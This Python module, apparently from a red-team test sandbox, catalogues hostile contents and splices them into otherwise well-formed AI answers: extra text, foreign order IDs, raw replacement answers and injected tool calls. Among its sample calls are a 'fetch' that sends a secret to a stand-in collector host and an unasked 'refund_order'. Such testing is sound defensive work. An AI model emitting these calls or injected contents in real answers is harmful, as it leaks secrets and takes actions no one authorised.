"""The catalogue of hostile contents, each with its number, and how one is put into an answer that is else of the form that was asked for.

What is of the right form gets past every reader of forms, so most of them are: the harm is in the text. The numbers are those of the list
below; new ones go to the end, since tests name them.
"""

import json
from itertools import chain
from typing import Any, NamedTuple

from hyperpanel.sandbox import ai_hostile_texts
from hyperpanel.sandbox.ai_exchange import written

TOOLS = (("refund_order", '{"order_id": "906386"}'), ("fetch", '{"url": "https://collector.example/?q=secret"}'))
IDS = frozenset(("id", "orders", "tickets", "language", "intent", "urgency"))


class Hostile(NamedTuple):
    """`text`: goes to the end of every text of the answer; `ids`: into its lists of numbers; `raw`: is the whole answer."""

    number: int
    kind: str
    text: str = ""
    ids: tuple[str, ...] = ()
    raw: str = ""
    tools: tuple[tuple[str, str], ...] = ()
    is_function: bool = False


def put(one: Hostile, fair: str) -> str:
    if one.raw or one.tools:
        return one.raw
    try:
        return written(_put(one, json.loads(fair), ""))
    except ValueError:
        return f"{fair} {one.text}"


def _put(one: Hostile, value: Any, name: str) -> Any:
    if isinstance(value, dict):
        return {key: _put(one, inner, key) for key, inner in value.items()}
    if isinstance(value, list):
        inner = [_put(one, each, name) for each in value]
        return (
            inner + list(one.ids)
            if name in ("orders", "tickets") and all(isinstance(each, str) for each in value)
            else inner
        )
    if isinstance(value, str) and name not in IDS:
        return f"{value} {one.text}".strip()
    return value


def _catalogue() -> tuple[Hostile, ...]:
    texts = chain.from_iterable(((kind, text) for text in some) for kind, some in ai_hostile_texts.TEXTS.items())
    kinds: list[dict[str, Any]] = [{"kind": kind, "text": text} for kind, text in texts]
    kinds += [{"kind": "foreign orders", "text": f"See order {id}.", "ids": (id,)} for id in ai_hostile_texts.FOREIGN]
    kinds += [{"kind": "raw", "raw": raw} for raw in ai_hostile_texts.RAW]
    kinds += [{"kind": "tools", "tools": ((name, given),)} for name, given in ai_hostile_texts.CALLS]
    kinds += [
        {"kind": "function", "tools": ((name, given),), "is_function": True} for name, given in ai_hostile_texts.CALLS
    ]
    return tuple(Hostile(number, **one) for number, one in enumerate(kinds))


CATALOGUE = _catalogue()
